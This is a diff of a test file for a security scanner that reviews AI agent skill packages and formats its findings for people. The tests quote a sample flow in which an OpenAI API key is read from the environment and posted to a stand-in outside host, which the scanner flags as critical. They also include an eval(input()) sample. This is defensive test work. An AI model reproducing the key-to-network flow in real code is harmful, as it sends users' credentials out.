@@ -1,5 +1,6 @@
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
+import { allowancesOf } from '../../../scanner/reports/allowance.ts';
 import { columnsOf, frameOf } from '../../../scanner/reports/code-frame.ts';
 import { printReport } from '../../../scanner/reports/report-text.ts';
 import { scanSkill } from '../../../scanner/scan.ts';
@@ -27,8 +28,12 @@ async function print(
   given: readonly SourceFile[],
   options: Parameters<typeof printReport>[2] = { colour: false },
 ): Promise<string> {
-  return printReport(await scanSkill(given), given, options);
+  const report = await scanSkill(given);
+  return printReport(report, given, { ...options, allowances: allowancesOf(report, given) });
 }
+
+const plain = '---\nname: sample\ndescription: x\n---\n# Sample\n';
+const manifest = (capabilities: object) => JSON.stringify({ name: '@acme/sample', version: '1.0.0', commands: {}, capabilities });
 
 describe('a report for people', () => {
   it('shows the finding in its code, and each step of the flow with its file', async () => {
@@ -38,9 +43,10 @@ describe('a report for people', () => {
       /--> send\.py:5:5\n {4}\|\n {2}4 \| def send\(value\):\n {2}5 \| {5}requests\.post\("https\[:\]\/\/other\.acme\.example\/in"/,
     );
     expect(text).toMatch(/\n {4}\| {5}\^{60}\n/);
-    expect(text).toMatch(/1 read\.py:4:7 reads OPENAI_API_KEY\n.*key = os\.environ\["OPENAI_API_KEY"\]/);
+    expect(text).toMatch(/1 read\.py:4:7 reads OPENAI_API_KEY\n {8}\| key = os\.environ\["OPENAI_API_KEY"\]/);
     expect(text).toMatch(/\d send\.py:5:5 /);
     expect(text).toContain('= fix: ');
+    expect(text).toContain('= more: skill explain flow/secret-to-network');
   });
 
   it('ends with the verdict, what decided it, and the counts', async () => {
@@ -60,6 +66,50 @@ describe('a report for people', () => {
     expect(text).toMatch(/\n {2}no {8}yes {7}undeclared env OPENAI_API_KEY\n/);
     expect(text).toMatch(/\n {2}yes {7}no {19}egress GET https\[:\]\/\/api\.acme\.example\/\*\n/);
     expect(text).toMatch(/\n {2}no {8}yes {7}undeclared egress POST https\[:\]\/\/other\.acme\.example\/in\n/);
+  });
+
+  it('shows what decides first, the rest by rule, each further place in a line', async () => {
+    const reads = Array.from({ length: 8 }, (_, i) => `os.environ["PLAIN_${i}"]`).join('\n');
+    const text = await print([...skill, ...files({ 'more.py': `import os\n${reads}\n` })]);
+    const [deciding = '', rest = ''] = text.split('\nNot deciding, by rule\n');
+    expect(deciding).toContain('critical[flow/secret-to-network]: ');
+    expect(rest.match(/^(medium|high)\[manifest\/undeclared\]/gm)).toHaveLength(1);
+    expect(rest).toMatch(/\n {4}and more\.py:2:1 os\.environ needs env PLAIN_0, which skill\.json does not declare\n/);
+    expect(rest).toMatch(/\n {4}… and \d+ more: --format json has all\n/);
+  });
+
+  it('says what constants come to, and the line of skill.json that would allow it', async () => {
+    const text = await print(
+      files({
+        'SKILL.md': plain,
+        'skill.json': manifest({}),
+        'a.py': 'import requests\nhost = "api" + "." + "acme"\nrequests.get("https://" + host + ".example/v1")\n',
+      }),
+      { colour: false, width: 160 },
+    );
+    expect(text).toContain('    = evaluates to: https[:]//api.acme.example/v1\n');
+    expect(text).toContain(
+      '    = allowed by: "egress": [{"url":"https[:]//api.acme.example/v1","methods":["GET"],"why":"…"}] in the capabilities of skill.json\n',
+    );
+  });
+
+  it('proposes no line where something is evidence of an attack', async () => {
+    expect(await print(skill)).not.toContain('allowed by');
+  });
+
+  it('says of each file that was not analysed which it is and why, with the verdict', async () => {
+    const lines = (await print(files({ 'SKILL.md': plain, 'main.go': 'package main\n' }))).trimEnd().split('\n');
+    const verdict = lines.findIndex((line) => line.startsWith('Verdict: INCOMPLETE'));
+    expect(verdict).toBeGreaterThan(0);
+    expect(lines.slice(verdict).join('\n')).toMatch(/ {2}not analysed: main\.go: .+/);
+  });
+
+  it('shows code of files in UTF-16', async () => {
+    const given = [
+      ...files({ 'SKILL.md': plain }),
+      { path: 'a.py', bytes: Buffer.from('\ufeffx = 1\neval(input())\n', 'utf16le'), mode: 0o644 },
+    ];
+    expect(await print(given)).toMatch(/ {2}2 \| eval\(input\(\)\)\n/);
   });
 
   it('says so when there is nothing', async () => {
